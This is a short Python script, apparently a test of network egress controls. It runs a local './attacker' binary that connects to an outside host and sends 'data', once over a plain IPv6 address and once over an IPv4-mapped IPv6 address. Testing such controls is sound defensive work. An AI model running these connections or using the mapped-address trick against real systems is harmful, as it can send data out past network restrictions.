"""A static program connects over IPv6, and by a mapped address."""
import subprocess

for address in ("[2606:2800:220:1::35]:9000", "[::ffff:93.184.216.35]:9000"):
    subprocess.run(["./attacker", "connect", "libc", address, "data"])
